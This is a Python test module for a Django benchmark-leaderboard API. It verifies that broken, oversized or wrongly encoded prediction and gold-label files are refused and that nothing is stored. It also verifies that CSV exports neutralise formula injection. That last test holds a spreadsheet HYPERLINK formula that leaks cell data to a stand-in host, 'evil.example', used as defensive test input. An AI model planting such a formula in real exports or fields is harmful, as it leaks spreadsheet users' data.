"""Hostile files: every broken or oversized predictions or gold-label file is refused with
a 4xx naming the problem, and nothing of it is stored."""

from __future__ import annotations

import codecs
import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any, cast

import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from pytest_django.fixtures import Settings
from rest_framework.test import APIClient

from api.models import IdempotentRequest
from catalog.models import GoldSplit, Suite, Task
from catalog.selectors import suite_version_latest
from dashboard.selectors import suite_leaderboard
from dashboard.snapshots import snapshot_freeze
from leaderboard.catalog import get_task
from leaderboard.data import load_task, row_id
from tests.factories import BackboneFactory, MethodFactory, UserFactory
from tracking.models import Artifact, Run, RunTransition, Score
from tracking.rescoring import MAX_MESSAGE_CHARS, gold_split_upload
from tracking.services import RunInputError, run_create_external

pytestmark = pytest.mark.django_db

RUNS = "/api/v1/runs/"


@pytest.fixture
def glue(settings: Settings, data_dir: Path, tmp_path: Path) -> None:
    settings.PODIUM_DATA_DIR = str(data_dir)
    settings.PODIUM_PRIVATE_DIR = tmp_path / "private"
    call_command("load_catalog", verbosity=0)
    MethodFactory.create(key="paper", executable=False)
    BackboneFactory.create(key="minilm")


@pytest.fixture
def submitter(client_for: Callable[[User], APIClient], alice: User) -> APIClient:
    return client_for(alice)


@pytest.fixture
def sst2(data_dir: Path) -> list[str]:
    """Correct predictions for SST-2's validation split, one JSONL line per example."""
    definition = get_task(benchmark="glue", key="sst2")
    rows = load_task(definition, "validation", data_dir=data_dir)
    return [
        json.dumps({"idx": row_id(definition, row, i), "prediction": row[definition.label_field]})
        for i, row in enumerate(rows)
    ]


def body(predictions: str) -> dict[str, Any]:
    return {
        "method": "paper",
        "backbone": "minilm",
        "task": "glue/sst2",
        "seed": 0,
        "predictions": predictions,
        "split": "validation",
    }


def assert_nothing_stored() -> None:
    counts = {
        model.__name__: model.objects.count()
        for model in (Run, Score, Artifact, RunTransition, IdempotentRequest)
    }
    assert counts == dict.fromkeys(counts, 0), counts
    assert not [p for p in Path(settings.MEDIA_ROOT).rglob("*") if p.is_file()]


def predictions_error(response: Any) -> str:
    assert response.status_code == 400, response.content
    errors = response.json()["errors"]
    assert list(errors) == ["predictions"], errors
    (message,) = errors["predictions"]
    return str(message)


# --- Broken predictions files -----------------------------------------------------------


def too_few(lines: list[str]) -> str:
    return "\n".join(lines[:-1])


def too_many(lines: list[str]) -> str:
    return "\n".join([*lines, '{"idx": 999999, "prediction": 1}'])


def duplicate_id(lines: list[str]) -> str:
    return "\n".join([lines[0], lines[0], *lines[2:]])


def label_out_of_range(lines: list[str]) -> str:
    return "\n".join([lines[0], '{"idx": 1, "prediction": 7}', *lines[2:]])


def not_json(lines: list[str]) -> str:
    return "\n".join([lines[0], "{idx: 1, prediction: 1", *lines[2:]])


def empty(lines: list[str]) -> str:
    return "\n\n  \n"


def huge_id(lines: list[str]) -> str:
    # Under the line limit, so the parser sees it; the message must not echo it whole.
    return "\n".join([json.dumps({"idx": "x" * 200_000, "prediction": 1}), *lines[1:]])


def huge_label(lines: list[str]) -> str:
    return "\n".join([json.dumps({"idx": 0, "prediction": "y" * 200_000}), *lines[1:]])


@pytest.mark.parametrize(
    ("hostile", "says"),
    [
        (too_few, "expected 872 predictions, got 871"),
        (too_many, "line 873: id '999999' is not in glue/sst2 split 'validation'"),
        (duplicate_id, "line 2: id '0' was already predicted on line 1"),
        (label_out_of_range, "line 2: id '1': 7 is neither a label name nor an index 0..1"),
        (not_json, "line 2: not valid JSON"),
        (empty, "the file is empty"),
        (huge_id, "line 1: id 'xxxxxxxx"),
        (huge_label, "line 1: id '0': 'yyyyyyyy"),
    ],
)
def test_a_broken_predictions_file_is_refused_naming_the_problem(
    glue: None,
    submitter: APIClient,
    sst2: list[str],
    hostile: Callable[[list[str]], str],
    says: str,
) -> None:
    message = predictions_error(submitter.post(RUNS, body(hostile(sst2)), format="json"))
    assert says in message
    assert len(message) <= MAX_MESSAGE_CHARS
    assert_nothing_stored()


def test_a_line_over_the_limit_is_refused_by_number(
    glue: None, submitter: APIClient, sst2: list[str], settings: Settings
) -> None:
    settings.PODIUM_MAX_LINE_CHARS = 1000
    lines = [*sst2[:2], json.dumps({"idx": 2, "prediction": 1, "pad": "z" * 5000}), *sst2[3:]]
    message = predictions_error(submitter.post(RUNS, body("\n".join(lines)), format="json"))
    assert message.startswith("predictions: line 3 is 5038 characters long; at most 1000")
    assert "PODIUM_MAX_LINE_CHARS" in message
    assert_nothing_stored()


def test_a_file_over_the_upload_limit_is_refused_naming_the_limit(
    glue: None, submitter: APIClient, sst2: list[str], settings: Settings
) -> None:
    text = "\n".join(sst2) + "\n"
    settings.PODIUM_MAX_UPLOAD_BYTES = len(text.encode()) - 1
    message = predictions_error(submitter.post(RUNS, body(text), format="json"))
    assert f"the file is {len(text.encode())} bytes" in message
    assert f"at most {len(text.encode()) - 1} bytes" in message
    assert "PODIUM_MAX_UPLOAD_BYTES" in message
    assert_nothing_stored()


@pytest.mark.parametrize(
    ("text", "says"),
    [
        # A UTF-16 file read as latin-1 by the client: NULs between the characters.
        (
            codecs.BOM_UTF16_LE.decode("latin-1")
            + '{"idx": 0, "prediction": 1}\n'.encode("utf-16-le").decode("latin-1"),
            "Null characters are not allowed",
        ),
        ('{"idx": 0, "prediction": "\x00"}\n', "Null characters are not allowed"),
        ('{"idx": 0, "prediction": "\ud800"}\n', "Surrogate characters are not allowed"),
    ],
)
def test_text_that_is_not_clean_unicode_is_refused(
    glue: None, submitter: APIClient, text: str, says: str
) -> None:
    # json.dumps escapes them (\u0000, \ud800); the server's parser makes them characters.
    content = json.dumps(body(text)).encode()
    assert says in predictions_error(raw_post(submitter, content, "application/json"))
    assert_nothing_stored()


def test_a_byte_order_mark_is_tolerated(glue: None, submitter: APIClient, sst2: list[str]) -> None:
    response = submitter.post(RUNS, body("\ufeff" + "\n".join(sst2)), format="json")
    assert response.status_code == 201, response.content
    assert response.json()["scores"][0]["value"] == pytest.approx(1.0)


# --- Broken request bodies ----------------------------------------------------------------


def raw_post(client: APIClient, content: bytes, content_type: str) -> Any:
    # The stubs say str; Django's test client sends bytes as they are.
    return client.generic("POST", RUNS, cast(str, content), content_type=content_type)


@pytest.mark.parametrize(
    ("encoding", "says"),
    [
        ("latin-1", "'utf-8' codec can't decode byte 0xe9"),
        ("utf-16", "JSON parse error"),
    ],
)
def test_a_body_not_in_utf8_is_a_400_naming_the_encoding_problem(
    glue: None, submitter: APIClient, sst2: list[str], encoding: str, says: str
) -> None:
    content = json.dumps(
        {**body("\n".join(sst2)), "description": "café"}, ensure_ascii=False
    ).encode(encoding)
    response = raw_post(submitter, content, "application/json")
    assert response.status_code == 400, response.content
    assert says in response.json()["detail"]
    assert_nothing_stored()


def test_a_body_in_a_declared_utf16_charset_is_read(
    glue: None, submitter: APIClient, sst2: list[str]
) -> None:
    content = json.dumps(body("\n".join(sst2)), ensure_ascii=False).encode("utf-16")
    response = raw_post(submitter, content, "application/json; charset=utf-16")
    assert response.status_code == 201, response.content


@pytest.mark.parametrize("content_type", ["application/json", "application/x-www-form-urlencoded"])
def test_a_body_over_the_request_limit_is_a_413_naming_the_limit(
    glue: None, submitter: APIClient, settings: Settings, content_type: str
) -> None:
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 50_000
    content = json.dumps(body("x" * 60_000)).encode()
    response = raw_post(submitter, content, content_type)
    assert response.status_code == 413
    detail = response.json()["detail"]
    assert f"The request body is {len(content)} bytes" in detail
    assert "at most 50000 bytes (DATA_UPLOAD_MAX_MEMORY_SIZE)" in detail
    assert_nothing_stored()


def test_predictions_sent_as_a_file_upload_are_refused(
    glue: None, submitter: APIClient, sst2: list[str]
) -> None:
    fields = {k: v for k, v in body("").items() if k != "predictions"}
    upload = SimpleUploadedFile("predictions.jsonl", "\n".join(sst2).encode())
    response = submitter.post(RUNS, {**fields, "predictions": upload}, format="multipart")
    assert "Not a valid string" in predictions_error(response)
    assert_nothing_stored()


# --- Gold-label uploads (staff) ---------------------------------------------------------


def ax_rows(count: int = 6) -> list[dict[str, Any]]:
    definition = get_task(benchmark="glue", key="ax")
    return [
        {
            definition.input_fields[0]: f"premise {i}",
            definition.input_fields[1]: f"hypothesis {i} café",
            definition.label_field: i % 3,
            "idx": i,
        }
        for i in range(count)
    ]


def jsonl(rows: list[dict[str, Any]]) -> str:
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows)


def gold_nothing_stored() -> None:
    assert not GoldSplit.objects.exists()
    assert not [p for p in Path(settings.PODIUM_PRIVATE_DIR).rglob("*") if p.is_file()]


def ax() -> Task:
    return Task.objects.get(benchmark__key="glue", key="ax", is_current=True)


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (jsonl(ax_rows()).encode("latin-1"), "file: the file is not UTF-8: byte 0xe9 on line 1"),
        (jsonl(ax_rows()).encode("utf-16"), "file: the file looks like UTF-16"),
        (b'{"idx": 0}\x00\n', "file: the file looks like UTF-16 (a UTF-16 byte-order mark or NUL"),
        (jsonl([*ax_rows(), ax_rows()[2]]).encode(), "id '2' repeats row 3"),
        (b"\n\n", "file has no rows"),
        (b"[1, 2]\n", "expected a JSON object per line"),
    ],
)
def test_a_broken_gold_file_is_refused_naming_the_problem(
    glue: None, content: bytes, says: str
) -> None:
    with pytest.raises(RunInputError) as refused:
        gold_split_upload(task=ax(), split="test", content=content, uploaded_by=None)
    assert says in str(refused.value)
    assert len(str(refused.value)) <= MAX_MESSAGE_CHARS
    gold_nothing_stored()


def test_gold_files_over_the_limits_are_refused(glue: None, settings: Settings) -> None:
    content = jsonl(ax_rows()).encode()
    settings.PODIUM_MAX_UPLOAD_BYTES = len(content) - 1
    with pytest.raises(RunInputError, match=f"the file is {len(content)} bytes; at most"):
        gold_split_upload(task=ax(), split="test", content=content, uploaded_by=None)
    settings.PODIUM_MAX_UPLOAD_BYTES = 10 * len(content)
    settings.PODIUM_MAX_LINE_CHARS = 50
    with pytest.raises(RunInputError, match=r"file: line 1 is \d+ characters long; at most 50"):
        gold_split_upload(task=ax(), split="test", content=content, uploaded_by=None)
    gold_nothing_stored()


def test_a_gold_file_with_a_byte_order_mark_is_stored_without_it(glue: None) -> None:
    content = codecs.BOM_UTF8 + jsonl(ax_rows()).encode()
    gold = gold_split_upload(task=ax(), split="test", content=content, uploaded_by=None)
    assert gold.rows == 6
    (stored,) = list(Path(settings.PODIUM_PRIVATE_DIR).rglob("*.jsonl"))
    assert stored.read_bytes() == content[len(codecs.BOM_UTF8) :]


def test_the_admin_refuses_a_latin1_gold_file_with_a_message(glue: None) -> None:
    staff = UserFactory.create(username="curator", is_staff=True, is_superuser=True)
    client = Client()
    client.force_login(staff)
    upload = SimpleUploadedFile("gold.jsonl", jsonl(ax_rows()).encode("latin-1"))
    response = client.post(
        "/admin/catalog/goldsplit/add/", {"task": ax().pk, "split": "test", "file": upload}
    )
    assert response.status_code == 200  # the form again, with the error
    assert b"the file is not UTF-8: byte 0xe9 on line 1" in response.content
    gold_nothing_stored()


# --- CSV injection in exports -----------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_exports_neutralise_cells_a_spreadsheet_would_run(glue: None) -> None:
    sst2 = Task.objects.get(benchmark__key="glue", key="sst2", is_current=True)
    owner = UserFactory.create(username="mallory")
    backbone = BackboneFactory.create(key="bone", name="@bone")
    for i, start in enumerate(FORMULA_STARTS):
        method = MethodFactory.create(
            key=f"m{i}", name=f'{start}HYPERLINK("http://evil.example/?leak="&A1)', executable=False
        )
        run_create_external(
            owner=owner,
            method=method,
            backbone=backbone,
            task=sst2,
            config={},
            seed=0,
            scores={"accuracy": 0.5 + i / 100},
        )
    version = suite_version_latest(suite=Suite.objects.get(key="glue"))
    assert version is not None
    board = suite_leaderboard(suite_version=version, viewer=None, rule="official", missing="")
    snapshot = snapshot_freeze(board=board, suite_version=version, created_by=owner)
    client = APIClient()
    for path in (
        "/api/v1/suites/glue/leaderboard/",
        "/api/v1/tasks/glue/sst2/leaderboard/",
        f"/api/v1/snapshots/{snapshot.uuid}/",
    ):
        response = client.get(path, {"format": "csv"})
        assert response.status_code == 200, (path, response.content[:300])
        assert response["Content-Type"].startswith("text/csv")
        cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
        hostile = [cell for cell in cells if "HYPERLINK" in cell or "@bone" in cell]
        assert len(hostile) >= len(FORMULA_STARTS), (path, cells)
        for cell in cells:
            if cell.startswith(FORMULA_STARTS):
                assert _is_number(cell), f"{path}: a spreadsheet would run {cell!r}"
